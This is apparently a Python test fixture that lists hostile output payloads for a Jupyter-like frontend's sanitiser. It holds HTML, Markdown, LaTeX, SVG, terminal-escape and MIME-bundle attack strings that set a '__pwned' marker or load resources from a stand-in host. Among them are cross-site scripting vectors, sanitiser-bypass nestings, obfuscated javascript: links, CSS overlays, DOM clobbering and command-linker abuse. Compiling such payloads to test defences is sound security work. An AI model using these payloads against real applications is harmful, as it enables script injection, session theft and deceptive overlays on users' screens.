"""What a hostile remote sends; ``J`` stands for a script that tells, ``U`` for an address."""

from __future__ import annotations

STRANGER = "http://evil.invalid/"

HTML = r'''
<script>J</script>
<SCRIPT>J</SCRIPT>
<script >J</script >
<script/x>J</script>
<script src=U></script>
<script type=module>J</script>
<script async src="data:text/javascript,J"></script>
<scr<script>ipt>J</script>
<<script>J//<</script>
<script>J
<b><script>J</script></b>
<script>require(['x'],function(){J})</script>
<img src=x onerror=J>
<img src=x OnErRoR=J>
<img/src=x/onerror=J>
<img src="x"onerror="J">
<img src='x' onerror = "J">
<img src=x onerror=&#x4a;&#x22;;J>
<img src=U>
<img srcset="U 1x, U/2 2x">
<img src="data:image/png;base64,AAAA" onerror=J>
<img src="data:text/html,<script>J</script>" onerror=J>
<img src=x:alert(1) onerror=eval("J")>
<img lowsrc=U dynsrc=U longdesc=U>
<img src=`x` onerror=J>
<img """><script>J</script>">
<IMG SRC="jav&#x09;ascript:J">
<image src=x onerror=J>
<picture><source srcset=U><img src=x onerror=J></picture>
<body onload=J>
<body background=U>
<html onmouseover=J><body onpageshow=J>
<div onmouseover=J>move over me</div>
<div onpointerenter=J onclick=J onfocusin=J>click</div>
<p onwheel=J onscroll=J>scroll</p>
<a onclick=J>link</a>
<a href=# onfocus=J autofocus>link</a>
<div tabindex=0 autofocus onfocus=J>focus</div>
<input autofocus onfocus=J>
<select autofocus onfocus=J><option>1</option></select>
<textarea autofocus onfocus=J></textarea>
<keygen autofocus onfocus=J>
<details open ontoggle=J><summary>x</summary></details>
<marquee onstart=J>x</marquee>
<marquee behavior=alternate width=0 loop=1 onfinish=J onbounce=J>x</marquee>
<video src=U onerror=J></video>
<video poster=U></video>
<video><source onerror=J></video>
<audio src=U autoplay onerror=J></audio>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=J>x</b>
<b style="transition:all 1s" ontransitionend=J>x</b>
<a href="javascript:J">link</a>
<a href="JaVaScRiPt:J">link</a>
<a href=" javascript:J">link</a>
<a href="&#1;javascript:J">link</a>
<a href="java&#10;script:J">link</a>
<a href="java&Tab;script:J">link</a>
<a href="&#106;avascript&colon;J">link</a>
<a href="javascript&#x3A;J">link</a>
<a href="javascript://%0aJ">link</a>
<a href="vbscript:J">link</a>
<a href="data:text/html,<script>J</script>" target=_self>link</a>
<a href="data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+">link</a>
<a href="blob:null/x">link</a>
<a href="filesystem:x">link</a>
<a href="//evil.invalid/x" target=_top>link</a>
<a href="/lab?reset" target=_self>link</a>
<a href="view-source:U">link</a>
<a href="http://evil.invalid/ok" target=_self ping=U rel=opener>link</a>
<a href="https:javascript:J">link</a>
<a href="http://x@evil.invalid/&quot; onclick=J">link</a>
<area href="javascript:J" shape=default>
<map name=m><area href="javascript:J" coords=0,0,99,99></map><img usemap=#m src=x>
<svg onload=J></svg>
<svg><script>J</script></svg>
<svg><script href="data:text/javascript,J"/></svg>
<svg><a xlink:href="javascript:J"><text x=20 y=20>link</text></a></svg>
<svg><animate onbegin=J attributeName=x dur=1s></svg>
<svg><set attributeName=href to=javascript:J><a id=x><text>link</text></a></svg>
<svg><image href=U></svg>
<svg><use href="data:image/svg+xml;base64,AAAA#x"></svg>
<svg><foreignObject><img src=x onerror=J></foreignObject></svg>
<svg><style><img src=x onerror=J></style></svg>
<svg><title><img src=x onerror=J></title></svg>
<svg></p><style><a id="</style><img src=1 onerror=J>">
<math href="javascript:J">click</math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=J&gt;">
<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=J src>">
<math><maction actiontype="statusline#J" xlink:href="javascript:J">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=J></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=J>
<noscript><p title="</noscript><img src=x onerror=J>">
<noembed><p title="</noembed><img src=x onerror=J>"></noembed>
<noframes><p title="</noframes><img src=x onerror=J>"></noframes>
<xmp><p title="</xmp><img src=x onerror=J>"></xmp>
<textarea><p title="</textarea><img src=x onerror=J>"></textarea>
<title><p title="</title><img src=x onerror=J>"></title>
<template><img src=x onerror=J></template>
<template shadowrootmode=open><img src=x onerror=J></template>
<select><template><img src=x onerror=J></template></select>
<table><td><svg><desc><td></desc><style><img src=x onerror=J>
<!--><img src=x onerror=J>-->
<!-- --!><img src=x onerror=J> -->
<![CDATA[<img src=x onerror=J>]]>
<?xml version="1.0"?><?php echo '<img src=x onerror=J>' ?>
<!DOCTYPE x [<!ENTITY y "<script>J</script>">]>&y;
<p title="&lt;/p&gt;&lt;img src=x onerror=J&gt;">title</p>
<iframe src="javascript:J"></iframe>
<iframe src=U></iframe>
<iframe srcdoc="<script>J</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=J&gt;"></iframe>
<iframe src="data:text/html,<script>J</script>"></iframe>
<iframe onload=J></iframe>
<frameset onload=J><frame src="javascript:J"></frameset>
<object data="javascript:J"></object>
<object data="data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+"></object>
<object type=image/svg+xml data=U onerror=J></object>
<embed src="javascript:J">
<embed src=U onload=J>
<applet code=U archive=U></applet>
<portal src=U onload=J></portal>
<fencedframe src=U></fencedframe>
<form action="javascript:J"><button>go</button></form>
<form action=U><input type=submit value=go></form>
<form id=f></form><button form=f formaction="javascript:J">go</button>
<button onclick=J>go</button>
<button popovertarget=p>go</button><div popover id=p onbeforetoggle=J>x</div>
<input type=image src=U onerror=J>
<isindex action="javascript:J" type=image>
<link rel=stylesheet href=U>
<link rel=preload as=script href=U>
<link rel=prefetch href=U>
<link rel=import href=U>
<link rel=dns-prefetch href=U>
<link rel=modulepreload href=U onload=J>
<meta http-equiv=refresh content="0;url=U">
<meta http-equiv=refresh content="0;url=javascript:J">
<meta http-equiv=set-cookie content="x=1">
<base href=U><img src=x>
<base target=_self>
<style>@import "U";</style>
<style>body{background:url(U)}</style>
<style>*{display:none}</style>
<div style="background:url(U)">x</div>
<div style="background-image:u\72l(U)">x</div>
<div style="background:image-set('U' 1x)">x</div>
<div style="background:-webkit-image-set(url(U) 1x)">x</div>
<div style="list-style-image:url(U)">x</div>
<div style="border-image:url(U)">x</div>
<div style="cursor:url(U),auto">x</div>
<div style="color:red;background:/**/url(U)">x</div>
<div style="width:expression(J)">x</div>
<div style="-moz-binding:url(U)">x</div>
<div style="behavior:url(U)">x</div>
<div style="position:fixed;inset:0;z-index:9999;background:white">overlay</div>
<div style="position:absolute;top:0;left:0;width:9999px;height:9999px">overlay</div>
<div style="margin:-9999px;transform:scale(99)">overlay</div>
<div style="color:red;;position:/**/fixed">x</div>
<div style="font-family:'x;position:fixed;top:0'">x</div>
<div style="--x:url(U);background:var(--x)">x</div>
<div style="content:attr(x);filter:url(U)">x</div>
<font face=x color=red size=7 onclick=J>font</font>
<table background=U><td background=U>x</table>
<div id=documentElement name=__pwned>clobbered</div>
<a id=__pwned href="http://evil.invalid/clobbered">link</a>
<img name=body src=x><form name=getElementById></form>
<div class="jp-Notebook jp-mod-active lm-Widget mathjax_process">x</div>
<button data-commandlinker-command="runmenu:restart-and-run-all">run</button>
<a data-commandlinker-command="application:reset-layout" href="http://evil.invalid/a">link</a>
<div data-mime-type=application/javascript data-bind=J>x</div>
<x-element is=x onclick=J contenteditable>x</x-element>
<slot onslotchange=J></slot>
<dialog open oncancel=J onclose=J>x</dialog>
<p>$\href{javascript:J}{link}$</p>
<p>\(\style{position:fixed;background:url(U)}{x}\)</p>
<p class=mathjax_process>$$\class{jp-Notebook}{\href{javascript:J}{link}}$$</p>
<bdo dir=rtl>reversed</bdo> &#8238;reversed&#x202e;
<p>&#27;]0;title&#7;&#155;2J&#0;</p>
<img alt="`><script>J</script>" src=x>
<a href="http://evil.invalid/ok">an honest link</a>
<p/onclick=J><p / onclick=J / x>x
<img src=x onerror=J//
<div style="background:url('U
'''.strip().split("\n")

MARKDOWN = r"""
[link](javascript:J)
[link](JAVASCRIPT:J)
[link](<java script:J>)
[link](data:text/html,<script>J</script>)
[link](vbscript:J)
[link][x]\n\n[x]: javascript:J
![x](U)
![x](javascript:J)
![x](x "onerror=J")
<script>J</script>
<img src=x onerror=J>
<javascript:J>
`<img src=x onerror=J>`
<a href="javascript:J">link</a>
$\href{javascript:J}{link}$
[a](http://evil.invalid/"onmouseover="J)
| <img src=x onerror=J> |\n|-|\n| <script>J</script> |
""".strip().split("\n")

LATEX = r"""
$\href{javascript:J}{link}$
$\href{U}{link}$
$\url{javascript:J}$
$\style{background:url(U)}{x}$
$\class{jp-Notebook}{x}$
$\cssId{x}{x}$
$\data{x=y}{x}$
$\htmlData{x=y}{x}$
$\html{x}$
$\require{html}\href{javascript:J}{link}$
$\def\x{\href}\x{javascript:J}{link}$
$\newcommand{\x}{\href{javascript:J}}\x{link}$
$\let\x=\href \x{javascript:J}{link}$
$\csname href\endcsname{javascript:J}{link}$
$\includegraphics{U}$
$\begin{href}x\end{href}$
$\begingroup\endgroup$
$\unicode[x;background:url(U)]{65}$
$\color{red;background:url(U)}{x}$
$\bbox[url(U)]{x}$
$\mmlToken{mi}[href="javascript:J"]{link}$
$\rule{999em}{999em}$
$\kern-999em x$
$\text{$\href{javascript:J}{link}$}$
$\tag{x}\label{x}\ref{x}$
""".strip().split("\n")

SVG = r"""
<svg xmlns="http://www.w3.org/2000/svg" onload="J"/>
<svg xmlns="http://www.w3.org/2000/svg"><script>J</script></svg>
<svg xmlns="http://www.w3.org/2000/svg"><image href="U"/></svg>
<svg xmlns="http://www.w3.org/2000/svg"><style>@import "U";</style></svg>
<?xml-stylesheet href="U"?><svg xmlns="http://www.w3.org/2000/svg"/>
<!DOCTYPE svg [<!ENTITY x SYSTEM "U">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>
<svg"><script>J</script>
""".strip().split("\n")

TEXT = [
    "\x1b]0;title\x07",
    "\x1b]8;;javascript:J\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H\x1b[31mred\x1b[0m",
    "\x9b2J\x9d0;title\x9c\x90q\x9c",
    "\x1bP+q544e\x1b\\\x1b_x\x1b\\\x1b^x\x1b\\",
    "\x1b[5n\x1b[c\x1b[21t",
    "\x08\x08\x08\x7f\x00\x0c",
    "\u202egnp.exe\u2066\u2069",
    "\ud800 lone",
    "<img src=x onerror=J>",
    "\x1b[31m<img src=x onerror=J>\x1b[0m",
    "\x1b[38;2;0;0;0;url(U)m<script>J</script>",
    "http://evil.invalid/plain javascript:J",
    'File "<img src=x onerror=J>", line 1',
]

OTHERS = {
    "application/javascript": "J",
    "text/javascript": "J",
    "application/vnd.plotly.v1+json": {"data": [], "layout": {"title": "<img src=x onerror=J>"}},
    "application/vnd.vega.v5+json": {"signals": [{"update": "J"}]},
    "application/vnd.vegalite.v5+json": {"data": {"url": "U"}},
    "application/geo+json": {"type": "Point", "url": "U"},
    "application/pdf": "JVBERi0=",
    "application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2},
    "application/vnd.jupyter.stderr": "<img src=x onerror=J>",
    "application/vnd.jupyterlab.unknown+json": {},
    "text/x-unknown": "<img src=x onerror=J>",
    "image/x-unknown": "U",
}


def filled(text: str, number: int = 0) -> str:
    """Put in a script that sets ``__pwned`` and an address beyond this machine."""
    return text.replace("J", f"top.__pwned={number + 1}").replace("U", f"{STRANGER}{number}")


def bundles() -> list[dict[str, object]]:
    """All payloads as bundles that a remote displays."""
    found: list[dict[str, object]] = []
    for kind, payloads in {
        "text/html": HTML,
        "text/markdown": [text.replace("\\n", "\n") for text in MARKDOWN],
        "text/latex": LATEX,
        "image/svg+xml": SVG,
        "text/plain": TEXT,
    }.items():
        found += [{kind: filled(text, len(found) + n)} for n, text in enumerate(payloads)]
    for kind, value in OTHERS.items():
        found.append({kind: filled(value, len(found)) if isinstance(value, str) else value})
    return found


def texts() -> list[str]:
    """All payloads as texts."""
    return [value for bundle in bundles() for value in bundle.values() if isinstance(value, str)]
